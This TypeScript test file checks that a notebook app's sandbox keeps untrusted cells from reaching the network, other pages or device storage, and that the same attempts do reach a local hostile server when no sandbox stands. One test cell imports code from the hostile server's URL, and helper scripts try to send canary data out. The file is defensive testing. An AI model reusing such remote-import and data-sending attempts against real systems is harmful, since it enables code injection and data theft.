import { cellText, expect, expectAlive, runStrangers, test } from "./attackTest.ts";
import { canariesIn } from "./canaries.mjs";
import { attemptsCell, attemptsScript, reached } from "./cellOf.mjs";
import { networkAttempts, pageAttempts } from "./networkAttempts.mjs";
import { sandboxOf } from "./sandboxOf.ts";
import { startHostile } from "./startHostile.mjs";
import { storageAttempts } from "./storageAttempts.mjs";

test("4, 5, 6 · a cell reaches no network, by no worker or import of its own, and nothing that the device keeps", async ({
  victim,
  hostile,
}) => {
  const network = networkAttempts(hostile);
  const text = [
    attemptsCell("network", network),
    attemptsCell("documents", pageAttempts(hostile)),
    attemptsCell("storage", storageAttempts),
    cellText("ts", "imported", `const other = await import("${hostile.url}/x.js");`),
  ].join("\n");
  await runStrangers(victim, text, ["network", "documents", "storage", "imported"]);
  for (const name of ["network", "documents", "storage"]) {
    const outcomes = await victim.rowsOf(name);
    expect([name, reached(outcomes)]).toEqual([name, []]);
    expect(canariesIn(JSON.stringify(outcomes))).toEqual([]);
  }
  expect(await victim.rowsOf("network")).toHaveLength(Object.keys(network).length);
  await victim.expectRun("imported", "failed");
  await expectAlive(victim);
});

test("4, 5, 6 · the frame's policy alone refuses a bare worker all of it", async ({
  page,
  victim,
  hostile,
  allowProblems,
}) => {
  // The nested workers that start are refused their fetch, and nobody there catches it.
  allowProblems(/^Uncaught error: (TypeError: Failed to fetch|$)/);
  await runStrangers(victim, cellText("ts", "one", "export default [{ n: 1 }];"), ["one"]);
  const heard = page.evaluateHandle(() => {
    const messages: unknown[] = [];
    new BroadcastChannel("eider").onmessage = ({ data }) => messages.push(data);
    return messages;
  });
  const script = attemptsScript({
    ...networkAttempts(hostile),
    ...pageAttempts(hostile),
    ...storageAttempts,
  });
  const outcomes = await sandboxOf(page).evaluate(
    (code) =>
      new Promise<[string, string][]>((done, fail) => {
        const worker = new Worker(`data:text/javascript;charset=utf-8,${encodeURIComponent(code)}`);
        worker.onmessage = ({ data }) => done(data);
        worker.onerror = (event) => fail(new Error(event.message));
      }),
    script,
  );
  expect(outcomes.length).toBeGreaterThan(40);
  // A channel that nobody else is in, and the state of a permission that it has not got.
  expect(reached(outcomes)).toEqual([
    ["BroadcastChannel", "reached: sent"],
    ["permissions", expect.stringMatching(/denied|prompt/)],
  ]);
  expect(await (await heard).jsonValue()).toEqual([]);
  expect(canariesIn(JSON.stringify(outcomes))).toEqual([]);
  await expectAlive(victim);
});

test("4 · the hostile server hears the same attempts where no wall stands", async ({
  page,
  allowProblems,
}) => {
  allowProblems(/./);
  const hostile = await startHostile();
  try {
    await page.goto(hostile.serve("/", "<title>No walls</title>"));
    await page.evaluate(
      (script) => {
        const worker = new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" })));
        return new Promise((done) => {
          worker.onmessage = done;
        });
      },
      attemptsScript(networkAttempts(hostile)),
    );
    await page.evaluate(
      attemptsScript({ WebRTC: networkAttempts(hostile).WebRTC ?? "" }).replace(
        /postMessage\(outcomes\)/,
        "",
      ),
    );
    const heard = (pattern: RegExp) =>
      expect.poll(() => hostile.contacts.some((contact) => pattern.test(contact))).toBe(true);
    await heard(/^GET \/fetch$/);
    await heard(/^UPGRADE \/socket$/);
    await heard(/^GET \/scripts\.js$/);
    await heard(/^GET \/nested$/);
    await heard(/^TCP connection$/);
    await heard(/^UDP packet/);
  } finally {
    await hostile.close();
  }
});
